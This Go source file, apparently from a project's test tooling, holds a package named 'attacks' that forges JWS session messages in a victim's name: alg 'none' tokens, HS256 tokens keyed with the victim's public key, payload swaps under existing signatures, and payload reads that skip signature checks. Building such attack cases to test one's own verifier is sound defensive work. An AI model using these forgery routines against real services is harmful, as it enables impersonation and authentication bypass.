package attacks

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"github.com/sightline-cam/sightline/internal/identity"
)

// messageType is the "typ" of session messages.
const messageType = "sightline+jws"

// publicKey returns the victim's public key as it stands in every message of the
// victim's.
func publicKey(victim *identity.Identity) (jwk json.RawMessage, err error) {
	header, _, _ := strings.Cut(victim.KeyStatement(), ".")
	raw, err := base64.RawURLEncoding.DecodeString(header)
	if err != nil {
		return nil, err
	}
	var h struct {
		JWK json.RawMessage `json:"jwk"`
	}
	return h.JWK, json.Unmarshal(raw, &h)
}

// unsigned returns the header and payload of a JWS in the victim's name with an
// algorithm of the forger's choice, and the victim's key as an uncompressed
// point.
func unsigned(victim *identity.Identity, typ, alg string, text []byte) (signed string, point []byte, err error) {
	jwk, err := publicKey(victim)
	if err != nil {
		return "", nil, err
	}
	var k struct{ X, Y string }
	if err := json.Unmarshal(jwk, &k); err != nil {
		return "", nil, err
	}
	x, err1 := base64.RawURLEncoding.DecodeString(k.X)
	y, err2 := base64.RawURLEncoding.DecodeString(k.Y)
	header := fmt.Sprintf(`{"alg":%q,"typ":%q,"jwk":%s}`, alg, typ, jwk)
	signed = base64.RawURLEncoding.EncodeToString([]byte(header)) + "." + base64.RawURLEncoding.EncodeToString(text)
	return signed, append(append([]byte{4}, x...), y...), errors.Join(err1, err2)
}

// withAlgNone makes an unsecured JWS (RFC 7519 §6) in the victim's name.
func withAlgNone(victim *identity.Identity, typ string, text []byte) (string, error) {
	signed, _, err := unsigned(victim, typ, "none", text)
	return signed + ".", err
}

// withHMAC signs with HS256, the secret being the victim's public key.
func withHMAC(victim *identity.Identity, typ string, text []byte) (string, error) {
	signed, point, err := unsigned(victim, typ, "HS256", text)
	if err != nil {
		return "", err
	}
	mac := hmac.New(sha256.New, point)
	mac.Write([]byte(signed))
	return signed + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
}

// withPayload puts another payload under a signature.
func withPayload(compact string, text []byte) string {
	parts := strings.Split(compact, ".")
	parts[1] = base64.RawURLEncoding.EncodeToString(text)
	return strings.Join(parts, ".")
}

// payloadText returns the payload of a JWS.
func payloadText(compact string) ([]byte, error) {
	parts := strings.Split(compact, ".")
	if len(parts) != 3 {
		return nil, errors.New("not a JWS")
	}
	return base64.RawURLEncoding.DecodeString(parts[1])
}

// payloadOf reads the payload of a JWS without looking at the signature.
func payloadOf(compact string, v any) error {
	text, err := payloadText(compact)
	if err != nil {
		return err
	}
	return json.Unmarshal(text, v)
}
